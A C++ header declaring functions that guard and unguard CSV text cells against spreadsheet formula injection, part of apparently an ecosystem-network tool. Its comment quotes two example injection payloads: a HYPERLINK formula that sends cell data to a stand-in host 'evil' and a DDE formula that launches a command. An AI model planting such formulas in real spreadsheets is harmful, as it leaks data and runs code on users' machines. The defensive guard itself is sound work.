#pragma once
// Keeping CSV text cells from running as spreadsheet formulas (OWASP "CSV
// injection"): Excel, LibreOffice and Google Sheets evaluate a cell that starts
// with = + - @ (and, after their own trimming, TAB or CR) as a formula, e.g.
// =HYPERLINK("http://evil/?"&A1) or =cmd|'/c calc'!A1. The rule, used by every
// CSV the tool writes (docs/robustness.md):
//   a TEXT cell starting with = + - @ TAB or CR gets a leading apostrophe ';
//   so does a text cell that already starts with ' followed by one of those or
//   by another ', so that the guard can be told from data and removed again.
// Cells written as numbers (weights, years, metric values such as -0.25) are
// never guarded: callers pass only text cells. The CSV folder reader removes
// the guard (unguard_spreadsheet_text), so a network survives CSV -> CSV intact.

#include <string>
#include <string_view>

namespace ecosys::detail {

/// `text` with the guard apostrophe prepended when the rule above asks for it.
/// Cost: O(1) plus the copy.
[[nodiscard]] std::string guard_spreadsheet_text(std::string_view text);

/// The inverse: `text` without its first character when that is a guard
/// apostrophe (a ' followed by = + - @ TAB CR or '), else `text` unchanged.
/// unguard(guard(s)) == s for every s.
[[nodiscard]] std::string unguard_spreadsheet_text(std::string_view text);
/// The same without a copy: a view of `text` past its guard apostrophe.
[[nodiscard]] std::string_view unguard_spreadsheet_view(std::string_view text);

}  // namespace ecosys::detail
